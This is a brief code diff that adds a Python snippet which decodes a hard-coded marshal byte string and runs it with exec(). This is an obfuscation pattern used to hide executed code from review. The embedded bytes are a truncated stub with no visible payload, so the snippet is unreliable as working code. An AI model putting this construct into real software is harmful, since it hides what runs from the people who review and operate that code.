@@ -1,0 +1,4 @@
+import marshal
+
+code = marshal.loads(b"\xe3\x00\x00\x00\x00\x00\x00\x00\x00")
+exec(code)
